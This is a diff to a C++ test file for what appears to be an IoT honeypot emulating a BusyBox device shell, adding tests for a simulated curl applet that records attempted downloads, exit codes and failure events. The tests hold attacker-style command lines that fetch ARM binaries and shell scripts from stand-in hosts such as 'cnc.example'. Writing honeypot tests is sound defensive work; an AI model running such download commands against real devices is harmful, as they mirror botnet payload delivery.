@@ -5,6 +5,8 @@
 #include <gtest/gtest.h>
 
 #include <filesystem>
+#include <fstream>
+#include <iterator>
 
 #include "capture/capture_store.h"
 #include "device_session.h"
@@ -14,13 +16,14 @@ namespace {
 
 class FetchingShell {
  public:
-  explicit FetchingShell(const std::string& profile) {
+  explicit FetchingShell(const std::string& profile, const std::string& profiles = profiles_dir(),
+                         bool fetch_enabled = true) {
     dir_ = std::filesystem::temp_directory_path() / ("busytrap-fetch-" + std::to_string(::getpid()));
     DeviceShellConfig config;
-    config.profiles_dir = profiles_dir();
+    config.profiles_dir = profiles;
     config.capture.directory = dir_;
     config.delays = false;
-    config.fetch_enabled = true;
+    config.fetch_enabled = fetch_enabled;
     std::string error;
     factory_ = DeviceShellFactory::load(config, error);
     if (!factory_) ADD_FAILURE() << error;
@@ -135,6 +138,97 @@ TEST(DeviceFetch, TftpAsksForItsUrlAndWritesTheLocalFile) {
   EXPECT_EQ(r.fetch->url, "tftp://192.0.2.5:69/bins/x.mips");
   EXPECT_EQ(s.take(s.shell().resume_fetch(ok("MIPS"))), "");
   EXPECT_EQ(s.take(s.shell().run_line("cat /var/t")), "MIPS");
+}
+
+// No shipped profile has curl (BusyBox has no curl applet, and the devices modelled ship none):
+// the applet answers only where an operator's profile lists it. This directory holds the DVR
+// profile with "curl" added to its list, written once per test process.
+std::string profiles_with_curl() {
+  struct Directory {
+    std::filesystem::path path =
+        std::filesystem::temp_directory_path() / ("busytrap-curl-profiles-" + std::to_string(::getpid()));
+    Directory() {
+      std::filesystem::create_directories(path);
+      std::ifstream in(profiles_dir() + "/hisilicon-dvr.toml");
+      std::string text((std::istreambuf_iterator<char>(in)), std::istreambuf_iterator<char>());
+      const std::size_t at = text.find("\"cut\",");
+      if (at == std::string::npos) ADD_FAILURE() << "hisilicon-dvr.toml lists no cut applet";
+      text.insert(at, "\"curl\", ");
+      std::ofstream(path / "curl-dvr.toml") << text;
+    }
+    ~Directory() {
+      std::error_code ec;
+      std::filesystem::remove_all(path, ec);
+    }
+  };
+  static const Directory directory;
+  return directory.path.string();
+}
+
+TEST(DeviceFetch, CurlWritesItsOutputFileOrPrintsThePayload) {
+  FetchingShell s("curl-dvr", profiles_with_curl());
+  ShellReply r = s.shell().run_line("cd /tmp; curl -s -A x -o c.arm http://192.0.2.1/bins/c.arm; echo rc=$?");
+  ASSERT_TRUE(r.fetch);
+  EXPECT_EQ(r.fetch->url, "http://192.0.2.1/bins/c.arm");
+  EXPECT_EQ(r.fetch->user_agent, "curl/7.58.0");
+  EXPECT_EQ(s.take(s.shell().resume_fetch(ok("ARM payload"))), "rc=0\n");
+  EXPECT_EQ(s.take(s.shell().run_line("cat /tmp/c.arm")), "ARM payload");
+  const core::Event* saved = find(s.events, "cowrie.session.file_download");
+  ASSERT_NE(saved, nullptr);
+  EXPECT_EQ(field(*saved, "destfile"), "/tmp/c.arm");
+  EXPECT_EQ(field(*saved, "shasum"), capture::sha256_hex("ARM payload"));
+
+  // Without -o, a bare host: http:// is assumed, the payload goes to stdout and is still recorded.
+  s.events.clear();
+  r = s.shell().run_line("curl 192.0.2.2/s.sh");
+  ASSERT_TRUE(r.fetch);
+  EXPECT_EQ(r.fetch->url, "http://192.0.2.2/s.sh");
+  EXPECT_EQ(s.take(s.shell().resume_fetch(ok("#!/bin/sh\necho hi\n"))), "#!/bin/sh\necho hi\n");
+  const core::Event* printed = find(s.events, "cowrie.session.file_download");
+  ASSERT_NE(printed, nullptr);
+  EXPECT_EQ(field(*printed, "destfile"), "-");
+  EXPECT_EQ(field(*printed, "shasum"), capture::sha256_hex("#!/bin/sh\necho hi\n"));
+}
+
+TEST(DeviceFetch, CurlFailuresUseCurlsExitCodesAndMessages) {
+  FetchingShell s("curl-dvr", profiles_with_curl());
+  fetch::FetchResult timeout;
+  timeout.outcome = fetch::FetchOutcome::Timeout;
+  timeout.reason = "timed out";
+  ShellReply r = s.shell().run_line("curl -o x http://192.0.2.1/x; echo rc=$?");
+  ASSERT_TRUE(r.fetch);
+  EXPECT_EQ(s.take(s.shell().resume_fetch(timeout)), "curl: (28) Operation timed out\nrc=28\n");
+  // curl without -f treats an HTTP error as a transfer that worked: exit 0, nothing saved.
+  fetch::FetchResult missing;
+  missing.outcome = fetch::FetchOutcome::NotFound;
+  missing.status_line = "HTTP/1.1 404 Not Found";
+  missing.reason = "HTTP/1.1 404 Not Found";
+  r = s.shell().run_line("curl -o y http://192.0.2.1/y; echo rc=$?; ls y");
+  ASSERT_TRUE(r.fetch);
+  EXPECT_EQ(s.take(s.shell().resume_fetch(missing)), "rc=0\nls: y: No such file or directory\n");
+  std::vector<std::string> reasons;
+  for (const auto& e : s.events) {
+    if (e.eventid == "cowrie.session.file_download.failed") reasons.push_back(field(e, "reason"));
+  }
+  // The failure events carry the fetcher's own reason, as for wget.
+  EXPECT_EQ(reasons, (std::vector<std::string>{"timed out", "HTTP/1.1 404 Not Found"}));
+}
+
+TEST(DeviceFetch, CurlOffByDefaultFailsAsAnUnreachableHostWould) {
+  FetchingShell s("curl-dvr", profiles_with_curl(), false);
+  ShellReply r = s.shell().run_line("curl -O http://192.0.2.1/a; echo rc=$?");
+  EXPECT_FALSE(r.fetch);
+  EXPECT_EQ(s.take(std::move(r)), "curl: (7) Failed to connect to 192.0.2.1 port 80: Connection refused\nrc=7\n");
+  EXPECT_EQ(s.take(s.shell().run_line("curl http://cnc.example:8080/a.sh; echo rc=$?")),
+            "curl: (6) Could not resolve host: cnc.example\nrc=6\n");
+  EXPECT_EQ(s.take(s.shell().run_line("curl; echo rc=$?")),
+            "curl: try 'curl --help' or 'curl --manual' for more information\nrc=2\n");
+  int failed = 0;
+  for (const auto& e : s.events) failed += e.eventid == "cowrie.session.file_download.failed";
+  EXPECT_EQ(failed, 2);
+  // The shipped profiles have no curl.
+  DeviceSession dvr("hisilicon-dvr");
+  EXPECT_EQ(dvr.run("curl http://192.0.2.1/a"), "sh: curl: not found\n");
 }
 
 TEST(DeviceFetch, OffByDefaultNothingIsAsked) {
